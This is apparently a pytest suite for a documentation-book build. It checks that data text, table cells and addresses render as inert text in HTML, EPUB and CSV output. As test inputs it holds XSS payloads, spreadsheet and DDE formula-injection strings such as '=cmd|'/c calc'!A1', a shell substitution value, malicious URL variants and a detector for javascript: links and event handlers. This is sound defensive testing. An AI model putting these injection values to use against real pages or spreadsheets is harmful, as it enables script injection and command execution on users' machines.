"""Text from data stays text: no cell, description or address becomes markup of a page."""

import csv
import io
import json
import re
import zipfile
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup
from computegap import addresses, markup
from conftest import ROOT, SmallBook

# What would become elements, attributes, links, roles, mathematics or ends of blocks and lines.
HOSTILE = (
    " \"><img src=x onerror=alert(1)><script>alert(2)</script><!--<script> ]]> </script> '"
    " [x](javascript:alert(3)) ![y](https://example.com/y.png) <https://example.com/z>"
    " `q` ``r`` {ref}`s` {{ t }} $u$ **v** _w_ | \\ &quot; &lt;b&gt; # % ~ ^ { {0} %s"
    " :::{note} \u2028```\u2029 \u0085end"
)
ONE_LINE = " ".join(HOSTILE.split())
# Without the ends of lines that few take for one: they are refused in cells (test_data.py).
IN_CELLS = f" {ONE_LINE}"
# What a spreadsheet or a shell behind it would run.
FORMULAS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://example.com/?"&A1,"a")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "%0A-1+1=1",
    "$(touch x)`touch y`;|&",
]
PAGE = """# A page

```{code-cell} ipython3
---
mystnb:
  image:
    alt: Bars.
  figure:
    name: fig-hostile
    caption: |
      Bars.

      Source: this test.
---
import altair as alt
import pandas as pd
from computegap import audit, ledger
from computegap.package import resources
from computegap.show import charts, claims, frames
from computegap.tables import load

charts.use()
sources = load("sources").head(5)
alt.Chart(sources).mark_bar().encode(
    alt.X("title:N"), alt.Y("count()"), alt.Color("publisher:N"), tooltip=["title", "note"]
)
```

```{code-cell} ipython3
---
mystnb:
  image:
    alt: Bars.
  figure:
    name: fig-formulas
    caption: |
      Bars.

      Source: this test.
---
said = %s
alt.Chart(pd.DataFrame({"said": said, "value": [-1.5] * len(said)})).mark_bar().encode(
    alt.Y("said:N"), alt.X("value:Q")
)
```

```{code-cell} ipython3
claims.show("C001", "C002", "C003")
```

```{code-cell} ipython3
claims.Ledger(ledger.rows().head(5))
```

"""
TABLE = """```{code-cell} ipython3
---
mystnb:
  figure:
    name: tab-%s
    caption: |
      A table.

      Source: this test.
---
%s
```

"""


def _is_text(field: dict, schema: dict) -> bool:
    """Whether a column may hold any text: nothing else names it, and nothing says its form."""
    key = schema["primaryKey"]
    named = {key} if isinstance(key, str) else set(key)
    for foreign in schema.get("foreignKeys", []):
        named |= set(
            [foreign["fields"]] if isinstance(foreign["fields"], str) else foreign["fields"]
        )
    form = {"pattern", "enum", "maxLength"} & set(field.get("constraints", {}))
    is_named = field["name"] in named | {
        "measure",
        "calculation",
        "low",
        "high",
        "source_id",
        "unit",
    }
    is_dated = field["name"].endswith("_date")
    free = not (form or is_named or is_dated or "format" in field)
    return field["type"] == "string" and free


def poison(book: SmallBook) -> dict[str, list[str]]:
    """Add hostile text to all text of the data package; returns the columns by their tables."""
    package = json.loads((book.root / "data/datapackage.json").read_text(encoding="utf-8"))
    poisoned = {}
    for entry in package["resources"]:
        for key in ("title", "description", "derivation"):
            entry[key] += HOSTILE
        path = book.root / "data" / entry["schema"]
        schema = json.loads(path.read_text(encoding="utf-8"))
        for field in schema["fields"]:
            field["description"] += HOSTILE
        path.write_text(json.dumps(schema), encoding="utf-8")
        columns = [field["name"] for field in schema["fields"] if _is_text(field, schema)]
        path = book.root / "data" / entry["path"]
        with open(path, encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        for row in rows[:5]:
            row |= {column: row[column] + IN_CELLS for column in columns if row[column]}
        with open(path, "w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
        poisoned[entry["name"]] = columns
    text = json.dumps(package)
    (book.root / "data/datapackage.json").write_text(text, encoding="utf-8")
    return poisoned


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> SmallBook:
    """A page that shows all tables, and the pages of data and references, with hostile data."""
    book = SmallBook(tmp_path_factory.mktemp("hostile"))
    # The check refuses tags in cells; that pages take them for text must not hang on it.
    check = book.root / "book/_ext/run/spelling.py"
    tags = r'r"</?[A-Za-z][^<>]*>|<!--"'
    code = check.read_text(encoding="utf-8")
    assert tags in code
    check.write_text(code.replace(tags, 'r"(?!)"'), encoding="utf-8")
    poisoned = poison(book)
    shown = [
        TABLE % (name.replace("_", "-"), f'frames.table(load("{name}")[{columns}].head(5))')
        for name, columns in poisoned.items()
        if columns
    ]
    shown.append(TABLE % ("listed", 'frames.sources("chips", "chip_owners", "evidence")'))
    shown.append(TABLE % ("audit", "audit.ten()"))
    book.page(PAGE % FORMULAS + "".join(shown))
    book.add_page("data", (ROOT / "book/data.md").read_text(encoding="utf-8"))
    book.add_page("references", "# References\n\n```{bibliography}\n:all:\n```\n")
    done = book.build()
    assert done.returncode == 0, done.stdout[-6000:]
    done = book.build("--builder", "custom", "--custom-builder", "epub")
    assert done.returncode == 0, done.stdout[-6000:]
    return book


@pytest.fixture(scope="module")
def pages(hostile) -> dict[str, BeautifulSoup]:
    return {
        name: BeautifulSoup(hostile.html(name), "html.parser")
        for name in ("index", "data", "references")
    }


@pytest.mark.parametrize("name", ["index", "data", "references"])
def test_hostile_text_makes_no_element_attribute_or_link(pages, name):
    page = pages[name]
    assert "alert(1)" in page.get_text()
    assert page.select("img[src=x], script script, .math, code.q, .note") == []
    handlers = [tag for tag in page.find_all(True) for key in tag.attrs if key.startswith("on")]
    assert handlers == []
    for link in page.find_all(["a", "img"]):
        address = link.get("href", link.get("src", ""))
        assert not address.startswith(("javascript:", "https://example.com/")), link
    for script in page.find_all("script"):
        if "json" in script.get("type", ""):
            json.loads(script.string)
        else:
            assert "alert(" not in (script.string or "")


def test_hostile_text_is_shown_as_it_is(pages):
    # Typographic quotes and dashes are the theme's.
    def plain(words: str) -> str:
        words = words.translate({0x201C: '"', 0x201D: '"', 0x2018: "'", 0x2019: "'", 0x2013: "--"})
        return " ".join(words.split())

    cells = [plain(cell.get_text()) for cell in pages["index"].select("#tab-claims td")]
    assert [cell for cell in cells if ONE_LINE in cell] != []
    assert ONE_LINE in plain(pages["index"].select_one("#claim-c001").get_text(" "))


def test_hostile_text_ends_no_block_of_the_page(hostile, pages):
    page = pages["index"]
    assert len(page.select("#fig-hostile .chart")) == 1
    assert len(page.select("#claim-c001, #claim-c002, #claim-c003")) == 3
    assert page.select_one("#tab-audit td") is not None
    script = hostile.root / "_build" / "html" / "_figures" / "fig-hostile.js"
    said = script.read_text(encoding="utf-8").removeprefix('bookFigure("fig-hostile", ')
    parts = json.loads(said.removesuffix(");\n"))
    # What a page puts into itself as HTML is text there, too.
    table = BeautifulSoup(parts["table"], "html.parser")
    assert table.select("img, script, a") == [] and IN_CELLS.strip() in table.get_text()
    assert any(IN_CELLS in row["title"] for rows in parts["datasets"].values() for row in rows)


def active(path: str, markup: str) -> list[str]:
    """What of a page, a chapter of an EPUB or a picture would run, load or lead elsewhere."""
    found = []
    # A chapter of an EPUB is XML; what a lenient reader would take for an element counts.
    html = re.sub(r"^<\?xml[^>]*>", "", markup)
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        addresses_of = [tag.get(key, "") for key in ("href", "xlink:href", "src", "action")]
        led = [a for a in addresses_of if re.match(r"(?i)\s*(javascript|vbscript|data:text)", a)]
        led += [a for a in addresses_of if "example.com" in a]
        handlers = [key for key in tag.attrs if key.lower().startswith("on")]
        data = "json" in tag.get("type", "") or tag.get("src")
        run = tag.name in ("iframe", "object", "embed", "foreignobject")
        if led or handlers or run or (tag.name == "script" and not data):
            found.append(f"{path}: {str(tag)[:120]}")
    return found


def test_every_file_of_the_book_is_what_its_name_says_and_nothing_in_it_is_active(hostile):
    html, kinds = hostile.root / "_build/html", set()
    for path in sorted(html.rglob("*")):
        # Sources and data are handed out as they are; nothing opens them but what asks for them.
        if not path.is_file() or path.parts[len(html.parts)] in ("_sources", "data", "_static"):
            continue
        kinds.add(path.suffix)
        if path.suffix in (".html", ".svg"):
            assert active(path.name, path.read_text(encoding="utf-8")) == []
        if path.suffix in (".svg", ".xml"):
            ElementTree.parse(path)
        elif path.suffix in (".json", ".ipynb"):
            assert json.loads(path.read_text(encoding="utf-8"))
        elif path.suffix == ".zip":
            with zipfile.ZipFile(path) as packed:
                names = packed.namelist()
            assert names and not [n for n in names if n.startswith("/") or ".." in n]
        elif path.suffix == ".txt":
            text = path.read_text(encoding="utf-8")
            # A list of links and paragraphs: hostile text opens no line, so it makes no block.
            assert [line for line in text.splitlines() if ":::{note}" in line[:8]] == []
    assert kinds >= {".html", ".svg", ".png", ".csv", ".json", ".js", ".ipynb", ".zip", ".txt"}


def test_hostile_text_makes_nothing_active_in_an_epub(hostile):
    (path,) = (hostile.root / "_build/epub").glob("*.epub")
    with zipfile.ZipFile(path) as epub:
        chapters = [n for n in epub.namelist() if n.endswith((".xhtml", ".opf", ".ncx"))]
        for name in chapters:
            text = epub.read(name).decode()
            ElementTree.fromstring(text)
            assert active(name, text) == []
    assert "book/index.xhtml" in chapters


def test_a_spreadsheet_runs_no_cell_that_a_figure_gives_it(hostile):
    text = (hostile.root / "_build/html/_figures/fig-formulas.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(FORMULAS)
    assert [row for row in rows if row["said"][0] in "=+-@\t\r\uff1d"] == []
    assert {row["value"] for row in rows} == {"-1.5"}
    for path in (hostile.root / "_build/html/_figures").glob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row if cell]
        assert [cell for cell in cells if cell[0] in "=@\t\r\uff1d"] == [], path.name


def test_hostile_titles_are_one_entry_in_every_format_of_citations(hostile, pages):
    """What the pages' script makes citations from is data, and holds each title in one line."""
    for page in pages.values():
        script = page.select_one("script#cite-data")
        if script is None:
            continue
        things = json.loads(script.string)["things"]
        assert things
        # U+2028 and others end a line for readers of RIS and BibTeX.
        assert [t for t in things.values() for part in t if len(str(part).splitlines()) > 1] == []


@pytest.mark.parametrize(
    "address",
    [
        'https://example.org/"onmouseover="alert(1)',
        "https://example.org/>)<img src=x onerror=alert(1)>",
        "https://example.org/a b",
        "https://example.org/a\\b",
        "https://example.org/a`b",
        "https://example.org/{a}",
        "https://example.org/%zz",
        "https://example.org/\u2028",
        "https://example.org:port/",
        "https://example.org@example.com/",
        "https://localhost/",
        "https://exämple.org/",
        "https:///path",
        "https:example.org",
        "http://[::1/",
        "ftp://example.org/",
        "javascript:alert(1)//https://example.org",
        " https://example.org/",
    ],
)
def test_what_is_no_address_is_refused(address):
    assert not addresses.is_address(address)


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org",
        "http://www.example.co.uk:8080/a/b.html?c=d&e=%20f#g",
        "https://example.org/a_(b)/c;d='e'/~f,g!h*i+j@k",
    ],
)
def test_an_address_is_one_and_is_written_as_it_is(address):
    assert addresses.is_address(address)
    assert addresses.written(address) == address


@pytest.mark.parametrize("address", ["javascript:alert(1)", "java\tscript:alert(1)", "data:x,y"])
def test_a_link_to_a_script_is_an_error(address):
    with pytest.raises(ValueError, match="expected an address"):
        markup.link("words", address)


def test_a_link_to_a_page_of_the_book_stays_one():
    assert markup.link("words", "constraint.md#a") == "[words](<constraint.md#a>)"
    assert markup.link("words", "a b>|`.md") == "[words](<a%20b%3E%7C%60.md>)"


def test_a_character_reference_in_an_address_is_no_character():
    assert markup.link("x", "https://a.org/?b&quot;c&d=e") == (
        "[x](<https://a.org/?b&amp;quot;c&d=e>)"
    )


def test_bad_addresses_of_all_tables_are_refused_before_a_notebook_runs(book):
    book.page("# A page\n\n```{code-cell} ipython3\n1 + 1\n```\n")
    path = book.root / "data" / "datapackage.json"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace('"path": "https://', '"path": "javascript:https://', 1))
    for table in ("sources", "chips"):
        path = book.root / "data" / f"{table}.csv"
        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
        row = next(number for number, line in enumerate(lines) if "https://" in line)
        lines[row] = lines[row].replace("https://", "https://>)<img onerror>", 1)
        path.write_text("".join(lines), encoding="utf-8")
    done = book.build()
    assert done.returncode != 0
    assert "executed" not in done.stdout
    expected = f"expected {addresses.EXPECTED}"
    for place in (
        "sources.csv, row 2, column 'url'",
        "chips.csv, row ",
        "datapackage.json, '",
    ):
        said = [line for line in done.stdout.splitlines() if f"data/{place}" in line]
        assert said, done.stdout[-3000:]
        assert all("found '" in line and expected in line for line in said)


def test_every_column_of_addresses_is_known_as_one():
    for path in (ROOT / "data").glob("*.schema.json"):
        for field in json.loads(path.read_text(encoding="utf-8"))["fields"]:
            if {"url", "address", "link", "doi"} & set(field["name"].split("_")):
                assert field.get("format") == "uri", (path.name, field["name"])
